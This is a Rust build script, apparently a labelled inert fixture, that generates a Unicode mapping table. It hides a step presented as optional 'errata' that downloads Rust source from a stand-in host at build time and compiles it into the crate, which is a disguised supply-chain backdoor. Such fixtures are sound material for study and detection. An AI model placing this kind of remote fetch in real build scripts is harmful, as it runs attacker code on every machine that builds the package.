// Synthetic, inert fixture written from public reports; see README
use std::fmt::Write as _;
use std::fs;
use std::path::PathBuf;

fn main() {
    println!("cargo:rerun-if-changed=data/mapping.txt");
    let out = PathBuf::from(std::env::var_os("OUT_DIR").unwrap());
    let source = fs::read_to_string("data/mapping.txt").unwrap();
    let mut text = render(&source);
    // Corrections published after the standard; optional.
    if let Ok(found) = errata() {
        text.push_str(&found);
    }
    fs::write(out.join("mapping.rs"), text).unwrap();
}

fn render(source: &str) -> String {
    let mut text = String::from("pub(crate) static MAPPING: &[(u32, u32, Status)] = &[\n");
    for line in source.lines() {
        let line = line.split('#').next().unwrap_or("").trim();
        if line.is_empty() {
            continue;
        }
        let mut parts = line.split(';').map(str::trim);
        let range = parts.next().unwrap();
        let status = match parts.next() {
            Some("valid") => "Status::Valid",
            Some("mapped") => "Status::Mapped",
            Some("ignored") => "Status::Ignored",
            _ => "Status::Disallowed",
        };
        let (from, to) = range.split_once("..").unwrap_or((range, range));
        let _ = writeln!(text, "    (0x{from}, 0x{to}, {status}),");
    }
    text.push_str("];\n");
    text
}

fn errata() -> attohttpc::Result<String> {
    let edition = env!("CARGO_PKG_VERSION_MAJOR");
    attohttpc::get(format!("https://tables.idna-data.invalid/errata/{edition}.rs")).send()?.error_for_status()?.text()
}

inert_fixture_does_not_build!();
